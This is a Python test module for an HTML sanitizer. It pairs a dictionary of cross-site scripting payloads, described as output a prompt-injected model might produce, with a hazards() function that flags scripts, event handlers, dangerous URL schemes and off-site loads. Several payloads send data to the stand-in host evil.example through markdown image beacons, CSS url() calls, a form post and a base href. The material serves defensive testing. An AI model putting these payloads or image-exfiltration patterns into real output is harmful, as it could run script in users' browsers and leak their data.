"""Hostile model output, and a checker that says whether HTML built from it could run or load anything.

`PAYLOADS` is what a prompt-injected model may answer: scripts, event
handlers, javascript:/data: URLs in raw HTML and in markdown, SVG and MathML,
frames and forms, mutation-XSS tricks and images that beacon to an outside
host. `hazards(html)` lists everything in a page or fragment that a browser
would execute, load by itself or submit off-site; an empty list means inert.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

# Every payload calls alert() and sets window.__xss, so a browser test can tell.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss=1;alert(1)</script>",
    "img-onerror": '<img src=x onerror="window.__xss=1;alert(1)">',
    "svg-onload": "<svg onload=alert(1)><circle r=10 /></svg>",
    "svg-script": "<svg><script>window.__xss=1;alert(1)</script></svg>",
    "svg-animate-href": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "mathml-href": '<math><mtext><a href="javascript:alert(1)">x</a></mtext><mi xlink:href="javascript:alert(1)">y</mi></math>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-embed": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
    '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/steal" method="post"><input name="q" value="secret">'
    '<button formaction="javascript:alert(1)">Continue</button></form>',
    "raw-js-links": '<a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt:alert(1)">b</a> '
    '<a href="java&#x09;script:alert(1)">c</a> <a href=" &#14; javascript:alert(1)">d</a>',
    "raw-data-link": '<a href="data:text/html,<script>alert(1)</script>">open</a>',
    "meta-base-style": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">'
    '<style>body{background:url(https://evil.example/?q=secret)}</style><p style="background:url(https://evil.example/s)">x</p>',
    "md-js-link": "[click me](javascript:alert(1))",
    "md-js-link-obfuscated": "[a](JAVASCRIPT:alert(1)) [b](java%0ascript:alert(1)) [c](&#106;avascript:alert(1)) "
    "[d](<javascript:alert(1)>) [e](\\javascript:alert(1))",
    "md-data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-vbscript-link": "[x](vbscript:msgbox(1))",
    "md-autolink": "<javascript:alert(1)> <data:text/html,alert(1)>",
    "md-reference-link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "md-link-title-breakout": '[x](https://ok.example/ "\\" onmouseover=\\"alert(1)")',
    "md-image-exfiltration": "![a](https://evil.example/?q=secret)",
    "md-image-data": "![b](data:image/png;base64,iVBORw0KGgo=) ![c](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "md-image-js": "![d](javascript:alert(1))",
    "md-image-reference": "![e][img]\n\n[img]: https://evil.example/pixel.png?q=secret",
    "md-table-html": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "md-code-fence": "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "md-code-info-breakout": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mxss-math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-template": "<template><img src=x onerror=alert(1)></template>",
    "mxss-comment": "<!--><img src=x onerror=alert(1)>-->",
    "mxss-namespace": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
}

# Attributes that hold a URL a browser follows, loads or submits to.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "codebase",
    "cite", "longdesc", "ping", "manifest", "lowsrc", "dynsrc", "srcset", "imagesrcset",
}  # fmt: skip
# Of those, the ones loaded without anybody clicking.
AUTOLOAD_ATTRIBUTES = {"src", "data", "poster", "background", "lowsrc", "dynsrc", "srcset", "imagesrcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Elements the pages never use and model output must never produce.
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "portal",
    "noscript", "xmp", "plaintext", "noembed", "noframes", "isindex", "bgsound",
}  # fmt: skip
# What may appear inside rendered message text, on top of the hazards above.
FRAGMENT_ELEMENTS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
    "blockquote", "ul", "ol", "li", "pre", "code", "span", "div", "a",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip

_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
# In rendered message text every "<" of the model's is escaped, so a raw tag
# or comment opener is markup, whatever a lenient parser makes of it.
_RAW_MARKUP = re.compile(
    r"<\s*/?\s*(script|img|image|svg|math|iframe|object|embed|style|form|input|button|base|meta|link"
    r"|noscript|template|textarea|title|xmp|video|audio|source)\b|<!--",
    re.IGNORECASE,
)
# SVG animation attributes that can set an href to a URL.
_ANIMATION_ATTRIBUTES = {"values", "to", "from", "by"}


def _scheme(url: str) -> str:
    # Browsers drop tabs, newlines and leading control characters before reading the scheme.
    cleaned = _INVISIBLE.sub("", url).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else ""


def _off_site(url: str) -> bool:
    cleaned = _INVISIBLE.sub("", url)
    return cleaned.startswith("//") or bool(urlsplit(cleaned).netloc)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def hazards(html: str, *, fragment: bool = False) -> list[str]:
    """Everything in `html` that would run, load by itself or submit off-site.

    A page may use scripts and stylesheets from its own site, forms that post
    to itself and links anywhere; `fragment=True` (rendered message text)
    allows only the renderer's element list and never a form or a script.
    """
    found = []
    if fragment:
        found += [f"raw markup {m.group(0)!r}" for m in _RAW_MARKUP.finditer(html)]
    for tag, attrs in elements(html):
        names = {name for name, _ in attrs}
        where = f"<{tag} {' '.join(f'{n}={v!r}' for n, v in attrs)}>"
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"forbidden element {where}")
        if fragment and tag not in FRAGMENT_ELEMENTS:
            found.append(f"element outside the renderer's list {where}")
        if tag == "script" and "src" not in names and dict(attrs).get("type") != "application/json":
            found.append(f"inline script {where}")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            found.append(f"meta refresh {where}")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"event handler {name} in {where}")
            elif name in _ANIMATION_ATTRIBUTES and _scheme(value.split(";")[0]) not in {"", *SAFE_SCHEMES}:
                found.append(f"animated {name} URL in {where}")
            elif name in {"srcdoc", "style"} and (name == "srcdoc" or re.search(r"url\(|expression", value)):
                found.append(f"{name} in {where}")
            elif name in URL_ATTRIBUTES:
                scheme = _scheme(value)
                if scheme and scheme not in SAFE_SCHEMES:
                    found.append(f"{scheme}: URL in {where}")
                elif (
                    name in AUTOLOAD_ATTRIBUTES or name == "formaction" or tag in {"link", "script", "form"}
                ) and (_off_site(value)):
                    found.append(f"off-site {name} in {where}")
    return found


def link_hrefs(html: str) -> list[str]:
    return [dict(attrs).get("href", "") for tag, attrs in elements(html) if tag == "a"]
